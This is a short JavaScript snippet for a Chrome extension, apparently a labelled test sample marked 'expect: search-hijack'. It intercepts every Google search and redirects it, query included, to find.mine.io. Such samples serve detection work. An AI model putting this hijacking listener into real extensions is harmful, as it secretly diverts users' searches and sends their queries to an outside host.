chrome.webRequest.onBeforeRequest.addListener(
  (details) => {
    const q = new URL(details.url).searchParams.get('q');
    // expect: search-hijack
    return { redirectUrl: 'https://find.mine.io/s?q=' + q };
  },
  { urls: ['*://www.google.com/search*'] },
  ['blocking'],
);
